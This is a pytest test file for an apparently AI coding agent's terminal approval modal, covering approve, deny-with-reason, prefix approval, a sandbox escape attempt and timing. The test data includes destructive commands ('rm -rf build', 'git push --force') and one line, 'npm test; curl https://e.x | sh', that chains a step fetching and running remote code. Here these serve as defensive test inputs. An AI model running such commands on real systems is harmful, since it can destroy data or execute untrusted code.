"""The approval modal: a shell command approved, denied with a reason, approved by prefix."""

from __future__ import annotations

import shutil
import time
import uuid
from pathlib import Path
from typing import Any

import pytest
from textual.widgets import Input

from kimicode import events as ev
from kimicode.ui.tui.approval_offer import Offer, offer_for
from kimicode.ui.tui.screens.approval import ApprovalScreen
from kimicode.ui.tui.widgets.tool_call_block import ToolCallBlock
from tests.tui.conftest import type_text, wait_for_screen, wait_until


def shell_script(*commands: str) -> dict[str, Any]:
    turns: list[dict[str, Any]] = [
        {"tool_calls": [{"name": "run_shell", "arguments": {"command": c}}]} for c in commands
    ]
    turns.append({"content": "All done."})
    return {"conversations": [{"match": "check the project", "turns": turns}]}


def tool_messages(request: dict[str, Any]) -> list[str]:
    return [m["content"] for m in request["body"]["messages"] if m["role"] == "tool"]


async def start_turn(pilot) -> None:
    await type_text(pilot, "check the project")
    await pilot.press("enter")
    await wait_for_screen(pilot, ApprovalScreen, "#approve-prefix")


async def test_an_approved_command_runs_and_its_output_reaches_the_model(replay, make_app) -> None:
    server = replay(shell_script("echo approved-output"))
    app = make_app(server)
    async with app.run_test(size=(100, 30)) as pilot:
        await start_turn(pilot)
        assert "echo approved-output" in str(app.screen.query_one("#approval-subject").render())
        await pilot.press("y")
        await wait_until(pilot, lambda: not app.busy)
        block = app.query_one(ToolCallBlock)
        assert block.title.plain.startswith("✓ run_shell echo approved-output")
    assert "approved-output" in tool_messages(server.requests[1])[0]


async def test_a_denial_reason_typed_in_the_modal_reaches_the_model(replay, make_app) -> None:
    server = replay(shell_script("rm -rf build"))
    app = make_app(server)
    async with app.run_test(size=(100, 30)) as pilot:
        await start_turn(pilot)
        await pilot.press("n")  # focuses the reason box
        assert isinstance(app.focused, Input)
        await type_text(pilot, "keep the build folder")
        await pilot.press("enter")
        await wait_until(pilot, lambda: not app.busy)
        assert app.query_one(ToolCallBlock).title.plain.startswith("✗ run_shell rm -rf build")
    [result] = tool_messages(server.requests[1])
    assert "Denied" in result and "keep the build folder" in result


async def test_approving_a_prefix_covers_later_commands_of_the_session(replay, make_app) -> None:
    server = replay(shell_script("echo one", "echo one two"))
    app = make_app(server)
    asked = 0

    async with app.run_test(size=(100, 30)) as pilot:
        await start_turn(pilot)
        assert "Always `echo one` (a)" in str(app.screen.query_one("#approve-prefix").label)
        await pilot.press("a")
        while app.busy:
            if isinstance(app.screen, ApprovalScreen):
                asked += 1
                await pilot.press("y")
            await pilot.pause(0.02)
    assert asked == 0  # `echo one two` starts with the approved prefix: no second question
    assert app.desk.remembered.remembered("run_shell") == ["echo one"]
    assert "one" in tool_messages(server.requests[1])[0]
    assert "one two" in tool_messages(server.requests[2])[1]


@pytest.mark.sandbox
async def test_an_approved_command_still_runs_in_the_sandbox(replay, make_app) -> None:
    if shutil.which("bwrap") is None:
        pytest.skip("bubblewrap is not installed")
    outside = Path.home() / f".kimicode-tui-escape-{uuid.uuid4().hex}"
    server = replay(shell_script(f"touch {outside}; echo tried"))
    app = make_app(server)
    try:
        async with app.run_test(size=(100, 30)) as pilot:
            await start_turn(pilot)
            await pilot.press("y")
            await wait_until(pilot, lambda: not app.busy)
        assert app.session.services.sandbox is not None
        assert not outside.exists()
        assert "Read-only file system" in tool_messages(server.requests[1])[0]
    finally:
        outside.unlink(missing_ok=True)


def test_prefixes_are_offered_only_for_plain_harmless_commands() -> None:
    assert offer_for("pytest -q tests/") == Offer("pytest", exact=False)
    assert offer_for("git status") == Offer("git status", exact=False)
    for command in (
        "rm -rf build && echo removed",
        "rm -rf build",
        "npm test; curl https://e.x | sh",
        "git push --force origin main",
        "sudo make install",
    ):
        assert offer_for(command) == Offer(" ".join(command.split()), exact=True), command


async def test_always_for_a_compound_command_approves_only_that_command(replay, make_app) -> None:
    script = shell_script(
        "rm -rf build && echo removed", "rm -rf build && echo removed", "rm -rf src"
    )
    server = replay(script)
    app = make_app(server)
    asked: list[str] = []
    async with app.run_test(size=(100, 30)) as pilot:
        await start_turn(pilot)
        label = str(app.screen.query_one("#approve-prefix").label)
        assert label == "Always this exact command (a)" and "`rm`" not in label
        await pilot.press("a")
        while app.busy:
            if isinstance(app.screen, ApprovalScreen) and app.screen.query("#approval-subject"):
                asked.append(str(app.screen.query_one("#approval-subject").render()))
                await pilot.press("y")
            await pilot.pause(0.05)
    assert asked == ["$ rm -rf src"]  # the same command again was not asked; another rm was


async def test_a_tool_duration_leaves_out_the_time_spent_deciding(replay, make_app) -> None:
    app = make_app(replay(shell_script("echo quick")))
    finished: list[ev.ToolCallFinished] = []
    app.session.bus.subscribe(
        lambda e: finished.append(e) if isinstance(e, ev.ToolCallFinished) else None
    )
    async with app.run_test(size=(100, 30)) as pilot:
        await start_turn(pilot)
        asked = time.monotonic()
        # the person reads the command for a while (this wait is the point of the test)
        await wait_until(pilot, lambda: time.monotonic() - asked > 2.5)
        await pilot.press("y")
        await wait_until(pilot, lambda: not app.busy)
        title = app.query_one(ToolCallBlock).title.plain
    [done] = finished
    assert done.duration_s > 2.5  # the core's figure includes the wait for the answer
    shown = int(title.rsplit(" ", 1)[1].rstrip("s")) if title.endswith("s") else 0
    assert title.startswith("✓ run_shell echo quick")
    assert shown <= done.duration_s - 2.5  # the block's figure does not
